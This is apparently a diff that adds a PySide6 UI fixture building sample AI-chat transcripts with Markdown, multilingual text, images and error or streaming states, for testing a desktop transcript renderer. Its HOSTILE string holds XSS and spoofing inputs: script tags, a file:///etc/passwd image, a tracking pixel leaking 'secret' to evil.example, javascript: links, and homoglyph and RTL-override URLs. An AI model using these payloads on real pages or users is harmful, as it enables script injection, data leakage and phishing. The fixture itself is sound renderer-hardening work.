@@ -1,0 +1,177 @@
+"""The transcript with every kind of text, and in each of its states."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+from PySide6.QtGui import QColor, QImage, QLinearGradient, QPainter
+
+from desktop.domain.blocks import Blocks, Growing
+from desktop.domain.parts import ImagePart
+from desktop.ui.transcript.entry import Entry
+from desktop.ui.transcript.transcript import Transcript
+
+if TYPE_CHECKING:
+    from PySide6.QtWidgets import QWidget
+
+MARKDOWN = """\
+## Reading a file
+
+Use `with open(...)` so that the file is **always closed**, even when *something fails*. See the
+[documentation](https://docs.python.org/3/library/functions.html#open) or https://example.com/a_(b)/c, ~~never~~ rarely.
+
+```python
+from pathlib import Path
+
+def words(path: str) -> int:
+    \"\"\"How many words a file has.\"\"\"
+    with open(path, encoding="utf-8") as file:  # text mode
+        return sum(len(line.split()) for line in file)
+
+print(f"{words('notes.txt'):,} words")
+```
+
+There are several ways:
+
+1. **Whole file** – simple:
+   ```bash
+   cat notes.txt | wc -w
+   ```
+   then go on.
+2. Line by line
+   - less memory
+   - works with pipes
+     - and even deeper
+3. Memory-mapped
+
+- [x] Done
+- [ ] To do
+
+| Method | Memory | Speed |
+|:---|---:|:---:|
+| `read()` | O(n) | fast |
+| iteration | O(1) | *fast enough* for most things |
+
+> Premature optimization is the root of all evil.
+>
+> — Donald Knuth
+
+---
+
+### 中文、日本語、한국어
+
+这是一个很长的中文段落,用来检查换行是否正确。日本語の文章も混ざっています。한국어 문장도 있습니다. 🎉
+
+#### عنوان بالعربية
+
+هذا نص عربي طويل لاختبار الاتجاه من اليمين إلى اليسار، مع كلمة English في الوسط.
+
+- بند أول
+- بند ثان
+"""
+
+HOSTILE = (
+    """\
+<script>alert(1)</script> <img src="file:///etc/passwd"> <b>not bold</b>
+
+![track](https://evil.example/pixel.png?d=secret) and [click](javascript:alert(1)) and
+[user](https://good.com@evil.com/) and [homoglyph](https://\u0430\u0440\u0440\u04cf\u0435.com/) and [turned](https://example.com/\u202egnp.exe)
+
+A long token: """
+    + "a" * 300
+)
+
+WAITING = "Still waiting: the provider is queueing · 17 s"
+LOST = "The connection was lost after 12 s. What arrived is kept."
+
+
+def picture() -> QImage:
+    """Something to look at, 800 × 600."""
+    image = QImage(800, 600, QImage.Format.Format_RGB32)
+    painter = QPainter(image)
+    sky = QLinearGradient(0, 0, 0, 600)
+    sky.setColorAt(0, QColor("#88aadd"))
+    sky.setColorAt(1, QColor("#ffddaa"))
+    painter.fillRect(image.rect(), sky)
+    painter.setBrush(QColor("#336655"))
+    painter.drawEllipse(100, 420, 900, 500)
+    painter.end()
+    return image
+
+
+def said() -> list[Entry]:
+    """A short conversation with all kinds of Markdown."""
+    receipt = "Anthropic · 1,204 → 356 tokens · $0.0042 · 6.1 s"
+    thoughts = "The person wants to read a file. I could name three ways. " * 20
+    return [
+        Entry("q", "You", from_user=True, blocks=Blocks("How do I read a file in Python?"), when="14:02"),
+        Entry(
+            "a",
+            "Claude Sonnet 4.5",
+            from_user=False,
+            blocks=Blocks(MARKDOWN),
+            reasoning=thoughts,
+            when="14:02",
+            footer=receipt,
+            version=2,
+            versions=3,
+        ),
+    ]
+
+
+def troubled() -> list[Entry]:
+    """Pictures, an answer that was cut off, one that failed, and one that is waited for."""
+    images = (
+        ImagePart("hill.png", "image/png", "a" * 64, width=800, height=600),
+        ImagePart("late.png", "image/png", "b" * 64, width=300, height=600),
+        ImagePart("cat.jpg", url="https://upload.example.org/cat.jpg"),
+    )
+    question = "What is on these pictures?\nSecond line, with `code` and *no* marks.\n\n```python\nprint('x')\n```"
+    ways = (("continue", "Continue"), ("retry", "Retry"))
+    note = "Pictures not sent, because this model cannot see: 2"
+    key = (("key", "API key…"),)
+    growing = Growing()
+    growing.feed("A first paragraph.\n\nThen **something bold that is not yet clos")
+    return [
+        Entry("q1", "You", from_user=True, blocks=Blocks(question), images=images, when="14:03", note=note),
+        Entry(
+            "a1",
+            "GPT-5",
+            from_user=False,
+            blocks=Blocks(HOSTILE),
+            when="14:03",
+            state="cut off",
+            reason=LOST,
+            fixes=ways,
+        ),
+        Entry("q2", "You", from_user=True, blocks=Blocks("Again, please. " * 40), when="14:04", state="not saved"),
+        Entry(
+            "a2", "GPT-5", from_user=False, blocks=Blocks(""), state="failed", reason="The key was refused.", fixes=key
+        ),
+        Entry(
+            "a3",
+            "A model",
+            from_user=False,
+            blocks=Blocks(""),
+            reasoning="Let me think about it. " * 9,
+            streaming=True,
+            waiting=WAITING,
+        ),
+        Entry("a4", "A model", from_user=False, blocks=growing, streaming=True, when="14:05"),
+    ]
+
+
+def views() -> dict[str, QWidget]:
+    shown = {"said": _of(said(), 1500), "troubled": _of(troubled(), 1500), "reasoning": _of(said(), 700)}
+    shown["reasoning"].flow.view(1).toggle_reasoning()
+    return dict(shown)
+
+
+def _of(entries: list[Entry], height: int) -> Transcript:
+    transcript = Transcript()
+    transcript.setMinimumHeight(height)
+    transcript.resize(900, height)
+    transcript.show_entries(entries)
+    transcript.set_picture("a" * 64, picture())
+    transcript.flow.following = False
+    return transcript
